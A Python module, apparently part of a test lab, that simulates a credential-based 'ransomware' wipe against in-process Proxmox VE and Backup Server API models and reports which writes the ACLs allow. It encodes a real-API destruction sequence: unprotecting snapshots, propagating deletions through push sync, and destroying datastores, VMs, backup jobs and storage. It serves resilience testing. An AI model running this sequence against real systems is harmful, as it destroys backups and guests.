"""A ransomware attack: whoever holds these credentials deletes everything they allow.

The attacker talks to the instances' APIs (in process, through the same pipeline as any
client: authentication, router permissions, the handlers' checks), so what survives is what
the credentials' ACLs protect, never a rule of this module. Names are no secret: it tries
every datastore, namespace, group, job, VM and storage that exists. On PBS it unprotects
what it can, deletes every group, runs the push sync jobs (so ``remove-vanished`` carries
the deletions to the remote copy), then deletes jobs, remotes and datastores with their
data. On PVE it removes HA resources, stops and destroys every VM, and deletes backup jobs,
replication jobs and storage entries.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

from lab.api.app import API_PREFIX, ApiApp
from lab.http.messages import Request
from lab.state.pbs import PbsServer
from lab.state.pve import PveCluster

Credential = tuple[str, str]
"""(auth id, secret): ``user@realm!token`` with its secret, or ``user@realm`` with a password."""


@dataclass
class AttackReport:
    """Each write attempted, as ``instance: METHOD path``: what the API allowed, and refused."""

    allowed: list[str] = field(default_factory=list)
    denied: list[str] = field(default_factory=list)


class _Attacker:
    """One instance's API, called with one credential."""

    def __init__(self, app: ApiApp[Any], credential: Credential, report: AttackReport) -> None:
        self.app, self.report = app, report
        self.headers = self._login(*credential)

    def _login(self, auth_id: str, secret: str) -> dict[str, str]:
        pve = self.app.product == "pve"
        if "!" in auth_id:
            joiner = "=" if pve else ":"
            prefix = "PVEAPIToken" if pve else "PBSAPIToken"
            return {"authorization": f"{prefix}={auth_id}{joiner}{secret}"}
        status, data = self._send("POST", "/access/ticket", {}, username=auth_id, password=secret)
        if status != 200 or not isinstance(data, dict):
            return {}
        cookie = "PVEAuthCookie" if pve else "PBSAuthCookie"
        return {
            "cookie": f"{cookie}={quote(str(data['ticket']))}",
            "csrfpreventiontoken": str(data["CSRFPreventionToken"]),
        }

    def _send(
        self, method: str, path: str, headers: dict[str, str], **params: Any
    ) -> tuple[int, Any]:
        pairs = [(k, str(int(v) if isinstance(v, bool) else v)) for k, v in params.items()]
        body = b"" if method == "GET" else urlencode(pairs).encode()
        request = Request(
            method=method,
            path=API_PREFIX + path,
            query=pairs if method == "GET" else [],
            body=body,
            headers={**headers, "content-type": "application/x-www-form-urlencoded"},
        )
        response = self.app.handle(request)
        if response is None:
            return 0, None
        try:
            data = json.loads(response.body).get("data") if response.status == 200 else None
        except (ValueError, AttributeError):
            data = None
        return response.status, data

    def call(self, method: str, path: str, **params: Any) -> bool:
        """One request; a write is reported as allowed or denied."""
        status, _ = self._send(method, path, self.headers, **params)
        if method != "GET":
            entry = f"{self.app.instance}: {method} {path}"
            (self.report.allowed if status == 200 else self.report.denied).append(entry)
        return status == 200


def _attack_pbs(attacker: _Attacker, server: PbsServer) -> None:
    for store in [entry.id for entry in server.datastores]:
        content = server.contents.get(store)
        if content is None:
            continue
        base = f"/admin/datastore/{store}"
        for key, group in sorted(content.groups.items()):
            ns = key.split("|", 1)[0]
            where = {"ns": ns} if ns else {}
            ids = {"backup-type": group.backup_type, "backup-id": group.backup_id, **where}
            for snapshot in [s for s in group.snapshots.values() if s.protected]:
                attacker.call(
                    "PUT",
                    f"{base}/protected",
                    **ids,
                    **{"backup-time": snapshot.time},
                    protected=False,
                )
            attacker.call("DELETE", f"{base}/groups", **ids, **{"error-on-protected": False})
    for job in [j.id for j in server.sync_jobs if j.direction == "push"]:
        attacker.call("POST", f"/admin/sync/{job}/run")
    for kind, jobs in (
        ("sync", server.sync_jobs),
        ("prune", server.prune_jobs),
        ("verify", server.verify_jobs),
    ):
        for job_id in [j.id for j in jobs]:
            attacker.call("DELETE", f"/config/{kind}/{job_id}")
    for remote in [r.id for r in server.remotes]:
        attacker.call("DELETE", f"/config/remote/{remote}")
    for store in [entry.id for entry in server.datastores]:
        attacker.call("DELETE", f"/config/datastore/{store}", **{"destroy-data": True})


def _attack_pve(attacker: _Attacker, cluster: PveCluster) -> None:
    for resource in [r.id for r in cluster.ha_resources]:
        attacker.call("DELETE", f"/cluster/ha/resources/{resource}")
    for vm in sorted(cluster.vms.values(), key=lambda v: v.vmid):
        path = f"/nodes/{vm.node}/qemu/{vm.vmid}"
        if vm.status == "running":
            attacker.call("POST", f"{path}/status/stop")
        attacker.call("DELETE", path, purge=True, **{"destroy-unreferenced-disks": True})
    for job in [j.id for j in cluster.backup_jobs]:
        attacker.call("DELETE", f"/cluster/backup/{job}")
    for job in [j.id for j in cluster.replication]:
        attacker.call("DELETE", f"/cluster/replication/{job}", force=True)
    for storage in [s.id for s in cluster.storage]:
        attacker.call("DELETE", f"/storage/{storage}")


def ransomware(
    pve: ApiApp[PveCluster] | None,
    pve_credential: Credential | None,
    pbs: Mapping[str, ApiApp[PbsServer]],
    pbs_credentials: Mapping[str, Credential],
) -> AttackReport:
    """Attack PBS instances first (their data), then PVE (the guests), with these credentials."""
    report = AttackReport()
    for name, credential in pbs_credentials.items():
        _attack_pbs(_Attacker(pbs[name], credential, report), pbs[name].state)
    if pve is not None and pve_credential is not None:
        _attack_pve(_Attacker(pve, pve_credential, report), pve.state)
    return report
